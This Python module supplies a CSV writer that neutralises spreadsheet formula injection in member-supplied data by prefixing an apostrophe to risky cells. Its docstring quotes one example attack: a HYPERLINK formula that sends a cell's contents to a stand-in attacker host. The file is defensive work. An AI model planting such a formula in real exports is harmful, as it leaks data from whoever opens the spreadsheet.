"""CSV for coordinators to open in a spreadsheet: the one writer every export uses.

A cell that starts with = + - @ (or a tab or carriage return, after any spaces) is run as a
formula by Excel, LibreOffice and Google Sheets: a member who names themselves
`=HYPERLINK("https://evil.example/?"&A1, "x")` would run it on the coordinator's machine (CSV
injection, OWASP). Such a cell gets a leading apostrophe, which spreadsheets show as text.
Numbers that are Python numbers pass as they are.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    if isinstance(value, str) and (
        value[:1] in FORMULA_STARTS or value.lstrip(" ")[:1] in FORMULA_STARTS
    ):
        return "'" + value
    return value


class _Echo:
    """A file whose write returns what it is given, for streaming rows one at a time."""

    def write(self, value):
        return value


class SafeCsvWriter:
    """csv.writer with every cell passed through `csv_cell`."""

    def __init__(self, out=None):
        self._writer = csv.writer(out if out is not None else _Echo())

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_stream(rows):
    """The text of each row in turn (for StreamingHttpResponse)."""
    writer = SafeCsvWriter()
    for row in rows:
        yield writer.writerow(row)
